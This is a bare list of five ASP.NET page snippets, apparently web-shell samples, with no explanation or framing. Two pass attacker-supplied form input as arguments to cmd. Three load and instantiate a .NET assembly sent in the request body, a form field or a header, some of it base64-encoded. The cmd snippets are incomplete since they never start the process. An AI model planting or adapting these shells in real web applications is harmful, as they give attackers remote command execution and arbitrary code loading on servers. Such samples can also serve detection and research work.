<%@ Page Language="C#"%><% var i = new System.Diagnostics.ProcessStartInfo("cmd"); i.RedirectStandardOutput = true; i.Arguments = Request.Form["a"]; %>
<%@ Page Language="C#"%><script runat="server">void Run(object s, EventArgs e) { var i = new System.Diagnostics.ProcessStartInfo("cmd"); i.RedirectStandardOutput = true; i.Arguments = Cmd.Text; }</script>
<%@ Page Language="C#"%><% byte[] b = Request.BinaryRead(Request.ContentLength); System.Reflection.Assembly.Load(b); %>
<%@ Page Language="C#"%><% var k = Request.Form["k"]; var a = System.Reflection.Assembly.Load(Convert.FromBase64String(k)); %>
<%@ Page Language="C#"%><% var t = Request.Headers["t"]; var o = System.Reflection.Assembly.Load(System.Convert.FromBase64String(t)).CreateInstance("P"); %>
